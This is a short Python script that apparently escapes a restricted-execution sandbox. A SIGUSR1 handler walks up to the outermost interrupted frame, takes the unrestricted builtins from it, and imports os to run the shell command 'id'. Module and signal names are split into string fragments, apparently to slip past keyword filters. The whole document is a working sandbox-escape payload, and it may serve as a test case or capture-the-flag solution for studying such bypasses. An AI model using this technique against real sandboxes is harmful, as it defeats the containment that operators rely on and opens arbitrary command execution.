# Signal handlers receive the interrupted frame. Raise SIGUSR1 at ourselves
# and use the outermost frame's builtins from inside the handler.
import signal


def on_sig(num, frame):
    while frame.f_back:
        frame = frame.f_back
    frame.f_builtins['__import__']('o' 's').system('id')


sig = getattr(signal, 'SIG' + 'USR1')
signal.signal(sig, on_sig)
signal.raise_signal(sig)
